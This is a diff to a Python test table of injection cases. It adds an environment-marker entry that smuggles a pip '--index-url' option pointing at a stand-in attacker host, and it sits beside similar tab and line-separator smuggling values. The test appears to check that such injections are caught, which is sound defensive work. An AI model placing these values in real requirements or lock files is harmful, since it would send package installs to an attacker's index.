@@ -65,6 +65,9 @@ INJECTIONS = {
         "demo": demo(hashes=[f"sha256:{WHEEL_SHA}\t--index-url=http://evil.invalid"])
     },
     "path-with-a-tab-comment": {"x": {"path": "./x\t# the rest is gone"}},
+    "marker-with-an-option-word": {
+        "demo": demo(markers='platform_release != "x --index-url=http://evil.invalid/simple"')
+    },
     "marker-with-a-line-separator": {"demo": demo(markers='python_version == "3\u2028-r x"')},
 }
 
